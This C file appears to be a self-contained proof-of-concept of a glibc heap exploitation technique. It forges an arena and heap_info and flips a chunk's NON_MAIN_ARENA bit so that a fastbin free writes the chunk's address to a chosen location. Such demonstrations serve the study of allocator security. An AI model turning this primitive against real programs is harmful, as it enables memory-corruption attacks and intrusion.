/* A chunk claims another arena: the fastbins of a forged one get its address. */
#include <stdio.h>
#include <stdlib.h>
#include <stdint.h>
#include <assert.h>
#include <string.h>
#define HEAP_MAX_SIZE 0x4000000
#define PREV_INUSE 1
#define NON_MAIN_ARENA 4
int main(void) {
    setbuf(stdout, NULL);
    setbuf(stderr, NULL);
    setbuf(stdin, NULL);
    uint8_t *fake_arena = malloc(0x1000);
    uint8_t *target_loc = fake_arena + 0x30;
    uint8_t *target_chunk = fake_arena - 0x10;
    fake_arena[0x888] = 0xFF;
    fake_arena[0x889] = 0xFF;
    fake_arena[0x88a] = 0xFF;
    uint64_t new_arena_value = (((uint64_t)target_chunk) + HEAP_MAX_SIZE) & ~(HEAP_MAX_SIZE - 1);
    uint64_t *fake_heap_info = (uint64_t *)new_arena_value;
    uint64_t *user_mem = malloc(0x1ff00 - 0x1010 + 0x100);
    while ((long long)user_mem < (long long)new_arena_value) user_mem = malloc(0x1ff00 - 0x1010);
    uint64_t *fastbin_chunk = malloc(0x50);
    uint64_t *chunk_ptr = fastbin_chunk - 2;
    uint64_t *tcache_chunks[7];
    for (int i = 0; i < 7; i++) tcache_chunks[i] = malloc(0x50);
    for (int i = 0; i < 7; i++) free(tcache_chunks[i]);
    fake_heap_info[0] = (uint64_t)fake_arena;
    chunk_ptr[1] = 0x60 | NON_MAIN_ARENA;
    free(fastbin_chunk);
    assert(*((unsigned long *)target_loc) != 0);
}
